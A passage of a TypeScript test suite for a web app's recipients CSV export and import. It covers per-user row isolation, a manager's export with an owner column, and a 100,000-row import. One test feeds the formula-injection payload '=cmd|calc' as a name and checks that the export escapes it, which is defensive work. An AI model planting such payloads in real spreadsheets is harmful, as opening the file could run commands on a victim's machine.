  test('GET /recipients/export.csv: a CSV attachment of the user’s own rows only', async () => {
    const alice = await signedIn(t);
    const bob = await signedIn(t);
    const aliceEmail = uniqueEmail('alice-r');
    const bobEmail = uniqueEmail('bob-r');
    await alice.agent.post('/recipients', { email: aliceEmail, fullName: '=cmd|calc', comment: 'for Alice' });
    await bob.agent.post('/recipients', { email: bobEmail, fullName: 'Bob’s friend' });

    const response = await alice.agent.get('/recipients/export.csv');
    assert.equal(response.statusCode, 200);
    assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
    assert.match(String(response.headers['content-disposition']), /^attachment; filename="[^"]+\.csv"$/);
    assert.match(String(response.headers['cache-control']), /no-store/);
    assert.deepEqual(cellsOf(response.body), [
      ['email', 'name', 'comment'],
      [aliceEmail, "'=cmd|calc", 'for Alice'],
    ]);
    assert.ok(!response.body.includes(bobEmail), 'another user’s rows never appear');
    assert.ok(!response.body.includes(bob.user.email));

    // Signed out: sent to log in, no data.
    const anonymous = await t.app.inject({ method: 'GET', url: '/recipients/export.csv' });
    assert.equal(anonymous.statusCode, 303);
    assert.ok(!anonymous.body.includes(aliceEmail));
  });

  test('a manager’s export holds everyone’s rows with an owner column; it re-imports into the manager’s own list', async () => {
    const alice = await signedIn(t);
    const bob = await signedIn(t);
    const manager = await signedIn(t, { role: 'manager' });
    const aliceEmail = uniqueEmail('m-alice');
    const bobEmail = uniqueEmail('m-bob');
    await alice.agent.post('/recipients', { email: aliceEmail, fullName: 'Of Alice' });
    await bob.agent.post('/recipients', { email: bobEmail, fullName: 'Of Bob' });

    const response = await manager.agent.get('/recipients/export.csv');
    assert.equal(response.statusCode, 200);
    const cells = cellsOf(response.body);
    assert.deepEqual(cells[0], ['email', 'name', 'comment', 'owner']);
    const byEmail = new Map(cells.slice(1).map((row) => [row[0], row]));
    assert.deepEqual(byEmail.get(aliceEmail), [aliceEmail, 'Of Alice', '', alice.user.email]);
    assert.deepEqual(byEmail.get(bobEmail), [bobEmail, 'Of Bob', '', bob.user.email]);

    const reimport = await upload(manager.agent, [csvFile(response.body)]);
    assert.equal(reimport.statusCode, 200);
    const mine = (await stored(manager.user.id)).map((row) => row.email);
    assert.ok(mine.includes(aliceEmail) && mine.includes(bobEmail), 'imported into the manager’s own list');
    assert.equal(await countOf(alice.user.id), 1, 'the owners’ lists are untouched');
  });
});

describe('CSV import at scale', () => {
  test('100,000 generated rows are imported with a right report', async () => {
    const actor = await newActor();
    const total = 100_000;
    async function* generated() {
      for (let start = 0; start < total; start += 1000) {
        let chunk = start === 0 ? 'email,name,comment\n' : '';
        for (let i = start; i < start + 1000; i++) chunk += `person${i}@scale.example.com,Person ${i},"row ${i}, generated"\n`;
        yield Buffer.from(chunk);
      }
    }
    const progress: number[] = [];
    const started = performance.now();
    const report = await importRecipientsCsv(t.c.recipients, actor, Readable.from(generated()), (rows) => progress.push(rows));
    const seconds = (performance.now() - started) / 1000;
    console.log(`[csv] ${testDb}: imported ${report.imported} rows in ${seconds.toFixed(2)} s`);

    assert.deepEqual(report, { rows: total, imported: total, duplicates: [], duplicateCount: 0, invalid: [], invalidCount: 0 });
    assert.equal(await countOf(actor.userId), total);
    assert.equal(progress.at(-1), total);
    assert.ok(
      progress.every((value, i) => i === 0 || value > (progress[i - 1] ?? 0)),
      'progress only grows',
    );
    const [last] = await t.c.db
      .select({ email: recipients.email, fullName: recipients.fullName, comment: recipients.comment })
      .from(recipients)
      .where(eq(recipients.email, `person${total - 1}@scale.example.com`));
    assert.deepEqual(last, { email: 'person99999@scale.example.com', fullName: 'Person 99999', comment: 'row 99999, generated' });

    const exportStarted = performance.now();
    const lines = (await exportOf(actor)).split('\n').length - 2;
    console.log(`[csv] ${testDb}: exported ${lines} rows in ${((performance.now() - exportStarted) / 1000).toFixed(2)} s`);
    assert.equal(lines, total);

    await t.c.db.delete(recipients).where(eq(recipients.ownerId, actor.userId));
  });
});
